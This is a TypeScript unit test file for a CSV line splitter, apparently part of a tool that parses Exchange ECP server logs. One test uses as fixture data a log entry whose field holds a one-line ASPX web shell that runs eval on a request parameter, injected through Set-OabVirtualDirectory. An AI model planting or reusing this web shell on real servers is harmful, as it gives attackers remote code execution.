import { test } from 'node:test';
import assert from 'node:assert/strict';
import { splitCsvLine } from '../../src/io/csvline.ts';

test('plain and empty fields', () => {
  assert.deepEqual(splitCsvLine('a,,c,'), ['a', '', 'c', '']);
  assert.deepEqual(splitCsvLine(''), ['']);
});

test('quoted fields with commas and doubled quotes (the ECP Server log quoting)', () => {
  // exchange.md §2.4: S:CMD values are single-quoted, and the CSV field is double-quoted with "" inside.
  const line = `2021-03-03T06:49:53.772Z,EX01,ECP.Request,"S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""k""],""unsafe"");}</script>''.Identity=''x'';S:EX="`;
  const f = splitCsvLine(line);
  assert.equal(f.length, 4);
  assert.equal(
    f[3],
    `S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>''.Identity=''x'';S:EX=`,
  );
});

test('an unterminated quote takes the rest of the line', () => {
  assert.deepEqual(splitCsvLine('a,"b,c'), ['a', 'b,c']);
  assert.deepEqual(splitCsvLine('"x"y,z'), ['xy', 'z']);
  assert.deepEqual(splitCsvLine('"",""'), ['', '']);
});
